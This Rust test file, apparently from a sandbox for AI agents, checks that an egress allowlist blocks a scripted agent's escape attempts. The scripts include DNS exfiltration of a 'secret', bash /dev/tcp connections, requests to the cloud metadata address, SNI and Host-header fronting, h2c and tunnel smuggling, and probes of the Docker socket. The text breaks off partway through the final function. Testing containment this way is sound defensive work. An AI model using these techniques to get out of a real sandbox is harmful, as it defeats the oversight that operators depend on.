//! The egress allowlist (`sandbox.egress.allow`) against an agent that tries every way
//! around it, and real clients (curl, git, pip, npm, a client that ignores proxy
//! variables) going through it.
//!
//! Each bypass test runs one attack from inside a real sandbox through the real
//! `agentgate` binary, proves the agent ran (it prints `agent-ran`), and checks on the
//! host that the upstream it aimed at accepted no connection. The network is hermetic
//! (`support/egress_net.rs`): upstreams on 127.0.0.x, or on the host's own address where
//! the attack needs a target a real network would reach; a test CA the sandboxed
//! clients trust; and a test DNS server that is the egress proxy's only resolver
//! (grants.yaml `egress.nameserver`), mapping the test names below.

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::path::Path;
use std::process::Output;

use crate::support;
use crate::support::agent_clis::{build_glibc_image, clis, CLIS_IN_SANDBOX, GLIBC_IMAGE};
use crate::support::anthropic::{AnthropicServer, Reply};
use crate::support::dns::TestDns;
use crate::support::egress_net::{
    client_ca_environment, host_address, Behind, UdpSink, Upstream, UPSTREAM_BODY,
};
use crate::support::git_server;
use crate::support::upstream::TestCa;
use crate::support::{indent, package_registries, shell_agent, stderr, task_spec, Home};

/// Where allowed upstreams listen: loopback, so the proxy dials it only because the
/// allowlist lists this exact address (`ALLOWED_IP:port`) besides the names.
const ALLOWED_IP: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 7);
/// Where `evil.test` resolves: a loopback address the operator denies (issue 27).
const EVIL_IP: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 6);
/// Where `fronted.test` resolves: a public address the operator denies. The proxy must
/// refuse it before dialing; nothing here listens on it.
const FRONTED_IP: Ipv4Addr = Ipv4Addr::new(11, 22, 33, 44);
/// Where the sandbox finds the test CA.
const CA_IN_SANDBOX: &str = "/workspace/test-ca.pem";

/// One test's network: the CA, the names the proxy's resolver knows, and the upstreams.
struct Lab {
    ca: TestCa,
    dns: TestDns,
    /// `allowed.test`, TLS, allowed.
    allowed: Upstream,
    /// `plain.test`, plain HTTP, allowed.
    plain: Upstream,
    /// `allowed.test` on a port the allowlist does not name (same address).
    other_port: Upstream,
    /// On the host's own address, never allowed: `denied.test` resolves to it.
    denied: Upstream,
    /// TLS on the host's own address: a DNS-over-HTTPS server reached by IP literal.
    doh: Upstream,
    /// On 127.0.0.1: `loop.test` (allowed by name) resolves to it.
    loopback: Upstream,
    workspace: tempfile::TempDir,
}

impl Lab {
    fn new() -> Lab {
        let ca = TestCa::new();
        let host = host_address();
        let allowed_ip = IpAddr::V4(ALLOWED_IP);
        let lab_dns = TestDns::start(&[
            ("allowed.test", allowed_ip),
            ("plain.test", allowed_ip),
            ("denied.test", host),
            ("loop.test", Ipv4Addr::LOCALHOST.into()),
            ("metadata.test", Ipv4Addr::new(169, 254, 169, 254).into()),
            ("private.test", Ipv4Addr::new(10, 1, 2, 3).into()),
            ("evil.test", EVIL_IP.into()),
            ("fronted.test", FRONTED_IP.into()),
        ]);
        let workspace = tempfile::tempdir().unwrap();
        std::fs::write(workspace.path().join("test-ca.pem"), ca.pem()).unwrap();
        Lab {
            allowed: Upstream::tls(allowed_ip, &ca, &["allowed.test"], Behind::Answer),
            plain: Upstream::plain(allowed_ip, Behind::Answer),
            other_port: Upstream::tls(allowed_ip, &ca, &["allowed.test"], Behind::Answer),
            denied: Upstream::plain(host, Behind::Answer),
            doh: Upstream::tls(host, &ca, &[&host.to_string()], Behind::Answer),
            loopback: Upstream::plain(Ipv4Addr::LOCALHOST.into(), Behind::Answer),
            dns: lab_dns,
            ca,
            workspace,
        }
    }

    /// The allowlist every test uses: the allowed upstreams by name and port, their
    /// address (so the proxy dials loopback for them), and the names that resolve to
    /// special ranges, so that only the address check stands between them and the agent.
    fn allow(&self) -> Vec<String> {
        vec![
            format!("allowed.test:{}", self.allowed.port()),
            format!("plain.test:{}", self.plain.port()),
            format!("{ALLOWED_IP}:{}", self.allowed.port()),
            format!("{ALLOWED_IP}:{}", self.plain.port()),
            format!("loop.test:{}", self.loopback.port()),
            "metadata.test:8080".to_string(),
            "private.test:8080".to_string(),
        ]
    }

    /// Runs `script` as the agent in `provider` with [`Lab::allow`] plus `more_allow`.
    fn run(&self, provider: &str, script: &str, more_allow: &[String]) -> Ran {
        self.run_with_cap(provider, script, more_allow, "")
    }

    /// [`Lab::run`] with `cap` (YAML lines of grants.yaml's `egress:`, indented two
    /// spaces) as the operator's cap.
    fn run_with_cap(&self, provider: &str, script: &str, more_allow: &[String], cap: &str) -> Ran {
        let home = Home::new();
        let mut allow = self.allow();
        allow.extend_from_slice(more_allow);
        let yaml = task_spec(
            "egress-bypass",
            "get out",
            &egress_execution(provider, self.workspace.path(), &allow, script),
        );
        let path = home.dir.path().join("task.yaml");
        std::fs::write(&path, yaml).unwrap();
        std::fs::write(
            home.dir.path().join("grants.yaml"),
            format!("egress:\n  nameserver: \"{}\"\n{cap}", self.dns.address()),
        )
        .unwrap();
        let output = home.agentgate(&["run", path.to_str().unwrap()]);
        let stdout = home.log("stdout.log");
        Ran {
            home,
            output,
            stdout,
        }
    }

    fn subprocess(&self, script: &str) -> Ran {
        self.run("subprocess", script, &[])
    }
}

/// Writes the operator's `grants.yaml` in `home`: `more` (YAML), and the egress proxy
/// resolving names with `dns` only.
fn use_nameserver(home: &Home, dns: &TestDns, more: &str) {
    std::fs::write(
        home.dir.path().join("grants.yaml"),
        format!("{more}egress:\n  nameserver: \"{}\"\n", dns.address()),
    )
    .unwrap();
}

/// The `execution` body: a `local` workspace, `provider` on `network: bridge` held to
/// `allow`, the test CA trusted by every client, `script` as the agent.
fn egress_execution(provider: &str, workspace: &Path, allow: &[String], script: &str) -> String {
    let allow: String = allow.iter().map(|d| format!("- {d:?}\n")).collect();
    let environment: String = client_ca_environment(CA_IN_SANDBOX)
        .into_iter()
        .map(|(name, value)| format!("{name}: {value}\n"))
        .collect();
    let image = if provider == "docker" {
        format!("image: {}\n", support::DOCKER_TEST_IMAGE)
    } else {
        String::new()
    };
    format!(
        "workspace:\n  source: local\n  path: {}\nsandbox:\n  provider: {provider}\n{}  network: bridge\n  egress:\n    allow:\n{}  environment:\n{}  resources:\n    timeout: 120s\n{}",
        workspace.display(),
        indent(&image, 2),
        indent(&allow, 6),
        indent(&environment, 4),
        shell_agent(&format!("echo agent-ran\n{script}exit 0\n")),
    )
}

/// What one run left.
struct Ran {
    home: Home,
    output: Output,
    stdout: String,
}

impl Ran {
    /// The run finished and the agent ran; returns its stdout for more checks.
    fn agent_ran(&self) -> &str {
        assert!(
            self.output.status.success(),
            "the run failed: {}\nstdout.log: {}",
            stderr(&self.output),
            self.stdout
        );
        assert!(
            self.stdout.contains("agent-ran"),
            "the agent did not run: {}",
            self.stdout
        );
        &self.stdout
    }

    /// The line the attack printed after `marker=`.
    fn said(&self, marker: &str) -> &str {
        self.stdout
            .lines()
            .find_map(|l| l.strip_prefix(marker)?.strip_prefix('='))
            .unwrap_or_else(|| {
                panic!(
                    "the agent printed no {marker}=: {}\nstderr.log: {}",
                    self.stdout,
                    self.home.log("stderr.log")
                )
            })
    }

    /// The run's `egress` events.
    fn egress_events(&self) -> Vec<serde_json::Value> {
        self.home
            .log("events.ndjson")
            .lines()
            .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
            .filter(|e| e["type"] == "egress")
            .collect()
    }
}

/// `curl` printing only the HTTP status (000 when no answer came), as `marker=CODE`.
fn curl(marker: &str, args: &str) -> String {
    format!("echo {marker}=$(curl -sS -o /dev/null -w '%{{http_code}}' -m 10 {args} 2>/dev/null)\n")
}

/// A Python script run by `python3 -c`, its last line printing `marker=RESULT`.
fn python(script: &str) -> String {
    format!("python3 - <<'PY'\n{script}\nPY\n")
}

/// A raw HTTP exchange with the in-sandbox proxy relay (127.0.0.1:3128): sends `request`
/// and prints the status line as `marker=...`.
fn to_proxy(marker: &str, request: &str) -> String {
    python(&format!(
        r#"import socket
try:
    s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    s.sendall({request:?}.encode())
    answer = s.recv(4096).decode(errors="replace").split("\r\n")[0]
except Exception as e:
    answer = "error " + type(e).__name__
print("{marker}=" + (answer or "closed"))"#
    ))
}

// ---- Bypass attempts: each fails, and its upstream accepts nothing. ----

#[test]
fn a_raw_ip_is_reached_neither_directly_nor_through_the_proxy() {
    let lab = Lab::new();
    let target = lab.denied.addr();
    let ran = lab.subprocess(&format!(
        "{}{}",
        curl("direct", &format!("--noproxy '*' http://{target}/")),
        curl("proxied", &format!("http://{target}/")),
    ));
    ran.agent_ran();
    assert_eq!(ran.said("direct"), "000");
    assert_eq!(ran.said("proxied"), "403");
    lab.denied.assert_saw_nothing("raw IP");
    // What the agent tried is in result.json.
    let refused = ran.home.result()["egress"]["refused"].to_string();
    assert!(refused.contains(&target.ip().to_string()), "{refused}");
}

#[test]
fn curl_noproxy_to_a_denied_name_resolves_nothing_and_reaches_nothing() {
    let lab = Lab::new();
    let port = lab.denied.port();
    let ran = lab.subprocess(&format!(
        "{}getent hosts denied.test && echo resolved=yes || echo resolved=no\n",
        curl(
            "noproxy",
            &format!("--noproxy '*' http://denied.test:{port}/")
        )
    ));
    ran.agent_ran();
    assert_eq!(ran.said("noproxy"), "000");
    assert_eq!(ran.said("resolved"), "no");
    lab.denied.assert_saw_nothing("curl --noproxy");
    assert!(
        !lab.dns
            .queries()
            .iter()
            .any(|q| q.starts_with("denied.test ")),
        "{:?}",
        lab.dns.queries()
    );
}

#[test]
fn a_raw_socket_to_the_hosts_address_reaches_nothing() {
    let lab = Lab::new();
    let target = lab.denied.addr();
    let ran = lab.subprocess(&python(&format!(
        r#"import socket
try:
    socket.create_connection(("{}", {}), timeout=5).sendall(b"GET / HTTP/1.0\r\n\r\n")
    print("raw=connected")
except OSError as e:
    print("raw=" + type(e).__name__)"#,
        target.ip(),
        target.port()
    )));
    ran.agent_ran();
    assert_ne!(ran.said("raw"), "connected");
    lab.denied.assert_saw_nothing("raw socket");
}

#[test]
fn udp_53_past_the_sandbox_resolver_reaches_no_resolver() {
    let lab = Lab::new();
    let sink = UdpSink::bind(host_address(), 53);
    let target = sink.addr();
    // A DNS query for a name carrying a secret, sent straight to a resolver, and the
    // same name through the sandbox's own resolver.
    let ran = lab.subprocess(&format!(
        "{}getent hosts secret-abc123.exfil.test; echo lookup=$?\n",
        python(&format!(
            r#"import socket
query = bytes.fromhex("12340100000100000000000006736563726574046578666c0474657374000001 0001".replace(" ", ""))
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(query, ("{}", {}))
    print("udp=sent")
except OSError as e:
    print("udp=" + type(e).__name__)"#,
            target.ip(),
            target.port()
        ))
    ));
    ran.agent_ran();
    assert_ne!(ran.said("udp"), "sent", "a datagram left the sandbox");
    assert_ne!(ran.said("lookup"), "0");
    assert!(sink.received().is_empty(), "{:?}", sink.received());
    assert!(
        !lab.dns.queries().iter().any(|q| q.contains("exfil")),
        "the lookup reached a resolver: {:?}",
        lab.dns.queries()
    );
}

#[test]
fn dns_over_https_to_an_ip_literal_is_refused() {
    let lab = Lab::new();
    let doh = lab.doh.addr();
    let url = format!("https://{doh}/dns-query?name=secret-abc123.exfil.test&type=A");
    let ran = lab.subprocess(&format!(
        "{}{}",
        curl(
            "direct",
            &format!("--noproxy '*' -H 'accept: application/dns-json' '{url}'")
        ),
        curl(
            "proxied",
            &format!("-H 'accept: application/dns-json' '{url}'")
        ),
    ));
    ran.agent_ran();
    assert_eq!(ran.said("direct"), "000");
    // curl reports the proxy's refusal of CONNECT as no answer from the server.
    assert_ne!(ran.said("proxied"), "200");
    lab.doh.assert_saw_nothing("DNS over HTTPS");
}

#[test]
fn connect_to_an_allowed_name_with_another_sni_is_refused() {
    let lab = Lab::new();
    let port = lab.allowed.port();
    let ran = lab.subprocess(&python(&format!(
        r#"import socket, ssl
context = ssl.create_default_context(cafile="{CA_IN_SANDBOX}")
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
try:
    s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    s.sendall(b"CONNECT allowed.test:{port} HTTP/1.1\r\nHost: allowed.test:{port}\r\n\r\n")
    print("connect=" + s.recv(4096).decode(errors="replace").split("\r\n")[0])
    context.wrap_socket(s, server_hostname="denied.test").sendall(b"GET / HTTP/1.1\r\nHost: denied.test\r\n\r\n")
    print("tls=established")
except (OSError, ssl.SSLError) as e:
    print("tls=" + type(e).__name__)"#
    )));
    ran.agent_ran();
    assert_ne!(ran.said("tls"), "established");
    lab.allowed.assert_saw_nothing("CONNECT with another SNI");
}

#[test]
fn an_allowed_name_resolving_to_loopback_is_refused() {
    let lab = Lab::new();
    let port = lab.loopback.port();
    let ran = lab.subprocess(&curl("loop", &format!("http://loop.test:{port}/")));
    ran.agent_ran();
    assert_eq!(ran.said("loop"), "403");
    lab.loopback
        .assert_saw_nothing("a name resolving to 127.0.0.1");
}

#[test]
fn an_allowed_name_resolving_to_the_metadata_address_or_a_private_one_is_refused() {
    let lab = Lab::new();
    let ran = lab.subprocess(&format!(
        "{}{}",
        curl("metadata", "http://metadata.test:8080/latest/meta-data/"),
        curl("private", "http://private.test:8080/")
    ));
    ran.agent_ran();
    assert_eq!(ran.said("metadata"), "403");
    assert_eq!(ran.said("private"), "403");
    // Neither address exists on this machine; the proxy's refusal is what shows that it
    // never dialed them.
    let refused: Vec<_> = ran
        .egress_events()
        .into_iter()
        .filter(|e| e["allowed"] == false)
        .map(|e| e["host"].as_str().unwrap_or_default().to_string())
        .collect();
    for host in ["metadata.test", "private.test"] {
        assert!(refused.iter().any(|h| h == host), "{host}: {refused:?}");
    }
}

#[test]
fn the_right_host_on_another_port_is_refused() {
    let lab = Lab::new();
    let port = lab.other_port.port();
    let ran = lab.subprocess(&format!(
        "{}{}",
        curl("proxied", &format!("https://allowed.test:{port}/")),
        curl(
            "direct",
            &format!("--noproxy '*' https://allowed.test:{port}/")
        ),
    ));
    ran.agent_ran();
    assert_ne!(ran.said("proxied"), "200");
    assert_eq!(ran.said("direct"), "000");
    lab.other_port
        .assert_saw_nothing("the right host on another port");
}

#[test]
fn an_ipv6_literal_is_refused() {
    let lab = Lab::new();
    let upstream = Upstream::plain("::1".parse().unwrap(), Behind::Answer);
    let port = upstream.port();
    let ran = lab.subprocess(&format!(
        "{}{}",
        curl("proxied", &format!("'http://[::1]:{port}/'")),
        curl("direct", &format!("--noproxy '*' 'http://[::1]:{port}/'")),
    ));
    ran.agent_ran();
    assert_eq!(ran.said("proxied"), "403");
    assert_eq!(ran.said("direct"), "000");
    upstream.assert_saw_nothing("IPv6 literal");
}

#[test]
fn bash_dev_tcp_reaches_nothing() {
    let lab = Lab::new();
    let target = lab.denied.addr();
    let ran = lab.subprocess(&format!(
        "bash -c 'echo GET / > /dev/tcp/{}/{}' 2>/dev/null && echo devtcp=connected || echo devtcp=failed\n",
        target.ip(),
        target.port()
    ));
    ran.agent_ran();
    assert_eq!(ran.said("devtcp"), "failed");
    lab.denied.assert_saw_nothing("/dev/tcp");
}

#[test]
fn absolute_form_http_to_a_denied_host_is_refused() {
    let lab = Lab::new();
    let port = lab.denied.port();
    let ran = lab.subprocess(&format!(
        "{}{}",
        curl(
            "curl",
            &format!("-x http://127.0.0.1:3128 http://denied.test:{port}/")
        ),
        to_proxy(
            "raw",
            &format!("GET http://denied.test:{port}/ HTTP/1.1\r\nHost: denied.test:{port}\r\n\r\n")
        ),
    ));
    ran.agent_ran();
    assert_eq!(ran.said("curl"), "403");
    assert!(ran.said("raw").contains(" 403"), "{}", ran.stdout);
    lab.denied.assert_saw_nothing("absolute-form HTTP");
}

#[test]
fn a_host_header_naming_another_host_is_refused() {
    let lab = Lab::new();
    let port = lab.plain.port();
    let denied = lab.denied.addr();
    let ran = lab.subprocess(&format!(
        "{}{}",
        to_proxy(
            "absolute",
            &format!("GET http://plain.test:{port}/ HTTP/1.1\r\nHost: {denied}\r\n\r\n")
        ),
        python(&format!(
            r#"import socket
try:
    s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    s.sendall(b"CONNECT plain.test:{port} HTTP/1.1\r\nHost: plain.test:{port}\r\n\r\n")
    s.recv(4096)
    s.sendall(b"GET / HTTP/1.1\r\nHost: {denied}\r\n\r\n")
    answer = s.recv(4096).decode(errors="replace")
except OSError as e:
    answer = type(e).__name__
print("tunnel=" + ("reached" if "{UPSTREAM_BODY}" in answer else "refused"))"#
        )),
    ));
    ran.agent_ran();
    assert!(ran.said("absolute").contains(" 403"), "{}", ran.stdout);
    assert_eq!(ran.said("tunnel"), "refused");
    lab.plain.assert_saw_nothing("Host mismatch");
    lab.denied.assert_saw_nothing("Host mismatch");
}

#[test]
fn a_websocket_upgrade_to_a_denied_host_is_refused() {
    let lab = Lab::new();
    let port = lab.denied.port();
    let ran = lab.subprocess(&to_proxy(
        "ws",
        &format!(
            "GET http://denied.test:{port}/socket HTTP/1.1\r\nHost: denied.test:{port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
        ),
    ));
    ran.agent_ran();
    assert!(ran.said("ws").contains(" 403"), "{}", ran.stdout);
    lab.denied.assert_saw_nothing("WebSocket upgrade");
}

#[test]
fn a_new_unix_socket_to_a_host_service_reaches_nothing() {
    let lab = Lab::new();
    // A host service on an abstract Unix socket (abstract names belong to a network
    // namespace), and the Docker engine's socket path.
    let name = format!("agentgate-egress-{}", std::process::id());
    let service = {
        use std::os::linux::net::SocketAddrExt;
        let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
        std::os::unix::net::UnixListener::bind_addr(&addr).unwrap()
    };
    service.set_nonblocking(true).unwrap();
    let ran = lab.subprocess(&python(&format!(
        r#"import socket
for label, path in (("abstract", "\0{name}"), ("docker", "/var/run/docker.sock"), ("dockerrun", "/run/docker.sock")):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.connect(path)
        s.sendall(b"GET /containers/json HTTP/1.0\r\n\r\n")
        print(label + "=connected")
    except OSError as e:
        print(label + "=" + type(e).__name__)"#
    )));
    ran.agent_ran();
    for label in ["abstract", "docker", "dockerrun"] {
        assert_ne!(ran.said(label), "connected", "{}", ran.stdout);
    }
    assert!(
        service.accept().is_err(),
        "the host service saw a connection"
    );
}

// ---- The operator's cap holds on the address dialed (issue 27). ----

/// The issue's setting: grants.yaml denies `127.0.0.6:PORT` and `11.22.33.44:PORT`;
/// the task allows `evil.test:PORT` (resolving to 127.0.0.6) and `fronted.test:PORT`
/// (resolving to 11.22.33.44), and lists 127.0.0.6 on another port. The check before
/// the run lets all of it through: no entry names a denied destination.
fn run_against_the_address_cap(lab: &Lab, provider: &str, port: u16, script: &str) -> Ran {
    lab.run_with_cap(
        provider,
        script,
        &[
            format!("evil.test:{port}"),
            format!("fronted.test:{port}"),
            format!("{EVIL_IP}:{}", support::another_port(port)),
        ],
        &format!("  deny: [\"{EVIL_IP}:{port}\", \"{FRONTED_IP}:{port}\"]\n"),
    )
}

/// `result.json` and the `egress` events name each name and the denied address it was
/// refused on, `attempts` times.
fn assert_refused_on_the_address(ran: &Ran, port: u16, attempts: u64) {
    let result = ran.home.result();
    for (name, ip) in [("evil.test", EVIL_IP), ("fronted.test", FRONTED_IP)] {
        let address = format!("{ip}:{port}");
        let refusal = result["egress"]["refused"]
            .as_array()
            .and_then(|all| all.iter().find(|r| r["host"] == name))
            .unwrap_or_else(|| panic!("no refusal of {name} in {result:#}"));
        assert_eq!(refusal["port"], port, "{refusal}");
        assert_eq!(refusal["address"], address.as_str(), "{refusal}");
        assert_eq!(refusal["reason"], "operator-denied", "{refusal}");
        assert_eq!(refusal["attempts"], attempts, "{refusal}");
        let events = ran.egress_events();
        let named: Vec<_> = events.iter().filter(|e| e["host"] == name).collect();
        assert_eq!(named.len() as u64, attempts, "{events:#?}");
        assert!(
            named
                .iter()
                .all(|e| e["allowed"] == false && e["address"] == address.as_str()),
            "{named:#?}"
        );
    }
    assert!(
        result["egress"]["destinations"]
            .as_array()
            .is_some_and(|d| d.is_empty()),
        "{result:#}"
    );
}

#[test]
fn allowed_names_resolving_to_addresses_the_operator_denies_reach_nothing() {
    let lab = Lab::new();
    let denied = Upstream::plain(EVIL_IP.into(), Behind::Answer);
    let port = denied.port();
    let mut script = String::new();
    for (label, name) in [("evil", "evil.test"), ("fronted", "fronted.test")] {
        script.push_str(&to_proxy(
            &format!("connect_{label}"),
            &format!("CONNECT {name}:{port} HTTP/1.1\r\nHost: {name}:{port}\r\n\r\n"),
        ));
        // Absolute form through the proxy variables, and a client ignoring them (the
        // relay /etc/hosts leads the name to).
        script.push_str(&curl(
            &format!("absolute_{label}"),
            &format!("http://{name}:{port}/"),
        ));
        script.push_str(&curl(
            &format!("transparent_{label}"),
            &format!("--noproxy '*' http://{name}:{port}/"),
        ));
    }
    let ran = run_against_the_address_cap(&lab, "subprocess", port, &script);
    ran.agent_ran();
    for label in ["evil", "fronted"] {
        let connect = ran.said(&format!("connect_{label}"));
        assert!(connect.contains(" 403"), "{label}: {}", ran.stdout);
        assert_eq!(ran.said(&format!("absolute_{label}")), "403");
        assert_eq!(ran.said(&format!("transparent_{label}")), "000");
    }
    denied.assert_saw_nothing("allowed names resolving to a denied address");
    assert_refused_on_the_address(&ran, port, 3);
}

#[test]
fn docker_allowed_names_resolving_to_addresses_the_operator_denies_reach_nothing() {
    if !support::docker_ready() {
        return;
    }
    let lab = Lab::new();
    let denied = Upstream::plain(EVIL_IP.into(), Behind::Answer);
    let port = denied.port();
    let mut script = String::new();
    for (label, name) in [("evil", "evil.test"), ("fronted", "fronted.test")] {
        script.push_str(&format!(
            "echo connect_{label}=$(printf 'CONNECT {name}:{port} HTTP/1.1\\r\\nHost: {name}:{port}\\r\\n\\r\\n' | nc -w 5 127.0.0.1 3128 | head -n 1 | tr -d '\\r')\n\
             http_proxy=http://127.0.0.1:3128 wget -q -O - http://{name}:{port}/ >/dev/null 2>&1 && echo absolute_{label}=reached || echo absolute_{label}=refused\n\
             printf 'GET / HTTP/1.1\\r\\nHost: {name}:{port}\\r\\nConnection: close\\r\\n\\r\\n' | nc -w 5 {name} {port} | grep -q {UPSTREAM_BODY} && echo transparent_{label}=reached || echo transparent_{label}=refused\n"
        ));
    }
    let ran = run_against_the_address_cap(&lab, "docker", port, &script);
    ran.agent_ran();
    for label in ["evil", "fronted"] {
        let connect = ran.said(&format!("connect_{label}"));
        assert!(connect.contains(" 403"), "{label}: {}", ran.stdout);
        assert_eq!(ran.said(&format!("absolute_{label}")), "refused");
        assert_eq!(ran.said(&format!("transparent_{label}")), "refused");
    }
    denied.assert_saw_nothing("docker: allowed names resolving to a denied address");
    assert_refused_on_the_address(&ran, port, 3);
}

#[test]
fn a_special_address_listed_on_one_port_is_not_reached_on_another() {
    let lab = Lab::new();
    let unlisted = Upstream::plain(EVIL_IP.into(), Behind::Answer);
    let listed = Upstream::plain(EVIL_IP.into(), Behind::Answer);
    let (port, control) = (unlisted.port(), listed.port());
    let ran = lab.run(
        "subprocess",
        &format!(
            "{}{}{}{}",
            to_proxy(
                "connect",
                &format!("CONNECT evil.test:{port} HTTP/1.1\r\nHost: evil.test:{port}\r\n\r\n"),
            ),
            curl("absolute", &format!("http://evil.test:{port}/")),
            curl(
                "transparent",
                &format!("--noproxy '*' http://evil.test:{port}/")
            ),
            curl("control", &format!("http://evil.test:{control}/")),
        ),
        &[
            format!("evil.test:{port}"),
            format!("evil.test:{control}"),
            format!("{EVIL_IP}:{control}"),
        ],
    );
    ran.agent_ran();
    assert!(ran.said("connect").contains(" 403"), "{}", ran.stdout);
    assert_eq!(ran.said("absolute"), "403");
    assert_eq!(ran.said("transparent"), "000");
    // The port the address is listed with works.
    assert_eq!(ran.said("control"), "200");
    assert_eq!(listed.seen().len(), 1);
    unlisted.assert_saw_nothing("a special address on a port it is not listed with");
    let result = ran.home.result();
    let refused = result["egress"]["refused"].as_array().unwrap();
    let address = format!("{EVIL_IP}:{port}");
    assert!(
        refused.iter().any(|r| r["host"] == "evil.test"
            && r["address"] == address.as_str()
            && r["reason"] == "special-address"
            && r["attempts"] == 3),
        "{result:#}"
    );
    let destinations = result["egress"]["destinations"].to_string();
    assert!(
        destinations.contains(&format!("\"{EVIL_IP}:{control}\"")),
        "{destinations}"
    );
}

// ---- After a tunnel's first message (issue 27). ----

#[test]
fn later_requests_in_a_tunnel_and_h2c_are_checked() {
    let lab = Lab::new();
    let port = lab.plain.port();
    let denied = lab.denied.addr();
    let h2c = format!(
        "Host: plain.test:{port}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n"
    );
    let tls = lab.allowed.port();
    let ran = lab.subprocess(&format!(
        "{}{}{}{}",
        // A valid ClientHello naming the allowed host, then ssh on the same tunnel.
        python(&format!(
            r#"import socket, ssl
hello = ssl.MemoryBIO(); out = ssl.MemoryBIO()
tls = ssl.create_default_context().wrap_bio(hello, out, server_hostname="allowed.test")
try:
    tls.do_handshake()
except ssl.SSLWantReadError:
    pass
s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
s.sendall(b"CONNECT allowed.test:{tls} HTTP/1.1\r\nHost: allowed.test:{tls}\r\n\r\n")
s.recv(4096)
s.sendall(out.read() + b"SSH-2.0-OpenSSH_9.6\r\n")
try:
    s.recv(4096)
except OSError:
    pass
print("tls_then_ssh=sent")"#
        )),
        // A first request naming the allowed host, then one naming another, pipelined.
        python(&format!(
            r#"import socket
s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
s.sendall(b"CONNECT plain.test:{port} HTTP/1.1\r\nHost: plain.test:{port}\r\n\r\n")
s.recv(4096)
s.sendall(b"GET /first HTTP/1.1\r\nHost: plain.test:{port}\r\n\r\nGET /fronted HTTP/1.1\r\nHost: {denied}\r\n\r\n")
try:
    answer = s.recv(4096)
except OSError:
    answer = b""
print("pipelined=sent")"#
        )),
        // A client ignoring the proxy variables asks to switch to h2c.
        python(&format!(
            r#"import socket
try:
    s = socket.create_connection(("plain.test", {port}), timeout=10)
    s.sendall(b"GET /h2c HTTP/1.1\r\n" + {h2c:?}.encode())
    answer = s.recv(4096)
except OSError:
    answer = b""
print("h2c=" + ("reached" if b"{UPSTREAM_BODY}" in answer else "refused"))"#
        )),
        to_proxy(
            "absolute_h2c",
            &format!("GET http://plain.test:{port}/h2c-absolute HTTP/1.1\r\n{h2c}")
        ),
    ));
    ran.agent_ran();
    assert_eq!(ran.said("tls_then_ssh"), "sent");
    assert_eq!(ran.said("pipelined"), "sent");
    assert_eq!(ran.said("h2c"), "refused");
    assert!(ran.said("absolute_h2c").contains(" 403"), "{}", ran.stdout);
    let heads: Vec<_> = lab.plain.seen().into_iter().map(|s| s.head).collect();
    for never in ["/fronted", "h2c", "HTTP2-Settings"] {
        assert!(
            !heads.iter().any(|h| h.contains(never)),
            "{never} reached the upstream: {heads:?}"
        );
    }
    lab.denied
        .assert_saw_nothing("a pipelined request naming another host");
    let refused = ran.home.result()["egress"]["refused"].to_string();
    for code in ["host-mismatch", "h2c-refused", "not-tls"] {
        assert!(refused.contains(code), "{code}: {refused}");
    }
    // The ClientHello and the ssh behind it were held back together: no TLS session
    // with the allowed upstream began.
    assert!(
        lab.allowed.seen().iter().all(|s| s.sni.is_none()),
        "{:?}",
        lab.allowed.seen()
    );
}

#[test]
fn docker_later_requests_in_a_tunnel_and_h2c_are_checked() {
    if !support::docker_ready() {
        return;
    }
    let lab = Lab::new();
    let port = lab.plain.port();
    let denied = lab.denied.addr();
    // Through the relay /etc/hosts leads plain.test to: a pipelined request naming
    // another host, then a request switching to h2c.
    let ran = lab.run(
        "docker",
        &format!(
            "printf 'GET /first HTTP/1.1\\r\\nHost: plain.test:{port}\\r\\n\\r\\nGET /fronted HTTP/1.1\\r\\nHost: {denied}\\r\\n\\r\\n' | nc -w 5 plain.test {port} >/dev/null 2>&1; echo pipelined=sent\n\
             printf 'GET /h2c HTTP/1.1\\r\\nHost: plain.test:{port}\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\\r\\n\\r\\n' | nc -w 5 plain.test {port} | grep -q {UPSTREAM_BODY} && echo h2c=reached || echo h2c=refused\n"
        ),
        &[],
    );
    ran.agent_ran();
    assert_eq!(ran.said("pipelined"), "sent");
    assert_eq!(ran.said("h2c"), "refused");
    let heads: Vec<_> = lab.plain.seen().into_iter().map(|s| s.head).collect();
    for never in ["/fronted", "h2c", "HTTP2-Settings"] {
        assert!(
            !heads.iter().any(|h| h.contains(never)),
            "{never} reached the upstream: {heads:?}"
        );
    }
    lab.denied
        .assert_saw_nothing("docker: a pipelined request naming another host");
    let refused = ran.home.result()["egress"]["refused"].to_string();
    for code in ["host-mismatch", "h2c-refused"] {
        assert!(refused.contains(code), "{code}: {refused}");
    }
}

// ---- The egress folder in the sandbox's mount tables (issue 27). ----

/// The agent reads its mount tables in a run with an egress allowlist: nothing of
/// agentgate's home shows. The kernel shows a bind mount's host path, so the socket
/// folder (Docker: the socket and the name files in it) shows as what it is, a folder of
/// the temporary folder with a random name beside the private HOME, removed at cleanup.
fn the_mount_tables_show_no_home(provider: &str, egress_mount_point: &str) {
    let lab = Lab::new();
    let ran = lab.run(
        provider,
        &format!("{}\n", support::MOUNT_TABLES_SCRIPT),
        &[],
    );
    ran.agent_ran();
    let home = ran.home.dir.path();
    support::assert_mount_tables_hide(
        lab.workspace.path(),
        &[
            &home.display().to_string(),
            home.file_name().unwrap().to_str().unwrap(),
        ],
    );
    let tables = std::fs::read_to_string(lab.workspace.path().join("mount-tables.txt")).unwrap();
